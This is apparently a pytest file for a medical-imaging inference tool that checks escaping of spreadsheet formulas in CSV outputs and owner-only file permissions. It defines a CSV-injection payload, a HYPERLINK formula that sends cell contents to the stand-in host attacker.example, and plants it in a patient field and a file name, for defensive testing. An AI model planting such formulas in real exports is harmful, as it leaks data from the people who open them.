"""CSV cells that a spreadsheet would run as formulas are escaped; the JSONL keeps the raw value (SECURITY.md §7)."""

from __future__ import annotations

import csv
import json
import os

from medvit.infer import InferConfig, run_inference
from medvit.infer.outputs import csv_cell
from tests.infer.helpers import make_model, write_dx

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


def test_csv_cell():
    for bad in ("=1+1", "+1", "-2+3", "@SUM(A1)"):
        assert csv_cell(bad) == "'" + bad
    # a leading TAB/CR is escaped (issue 13 follow-up: control characters never split a row), so no formula either
    assert csv_cell("\t=1") == "\\x09=1" and csv_cell("\r=1") == "\\x0d=1"
    assert csv_cell("P1") == "P1" and csv_cell(-0.5) == -0.5 and csv_cell("") == ""


def test_formula_in_header_and_file_name_is_escaped(tmp_path):
    model = make_model(tmp_path / "model")
    inp = tmp_path / "in"
    write_dx(inp / "=cmd.dcm", "1.2.3.4", "1.2.3.5", patient=FORMULA)
    (inp / "@junk.txt").write_text("not dicom")
    out = tmp_path / "out"
    res = run_inference(InferConfig(str(model), str(inp), str(out), workers=0, progress=False))
    assert res.counts["predicted"] == 1
    with open(out / "predictions.csv", newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert row["patient_id"] == "'" + FORMULA and row["file"] == "'=cmd.dcm"
    with open(out / "status.csv", newline="") as f:
        files = sorted(r["file"] for r in csv.DictReader(f))
    assert files == ["'=cmd.dcm", "'@junk.txt"]
    rec = json.loads((out / "predictions.jsonl").read_text().splitlines()[0])
    assert rec["patient_id"] == FORMULA and rec["file"] == "=cmd.dcm"  # the machine-readable copy is raw


def test_output_is_owner_only(tmp_path):
    """A new OUTPUT is 0700 and every file in it 0600 (it holds identifiers unless de-identified)."""
    import stat

    from medvit.cli.main import main
    from tests.infer.helpers import make_studies

    model = make_model(tmp_path / "model")
    inp = tmp_path / "in"
    make_studies(inp, n_studies=1, per_study=1)
    out = tmp_path / "out"
    old = os.umask(0o022)
    try:
        rc = main(["infer", "-m", str(model), "-i", str(inp), "-o", str(out), "--sr", "--heatmaps", "--workers", "0",
                   "--quiet"])
    finally:
        os.umask(old)
    assert rc == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    files = [p for p in out.rglob("*") if p.is_file()]
    assert len(files) >= 9
    assert {p.relative_to(out).as_posix(): oct(stat.S_IMODE(p.stat().st_mode)) for p in files
            if stat.S_IMODE(p.stat().st_mode) != 0o600} == {}
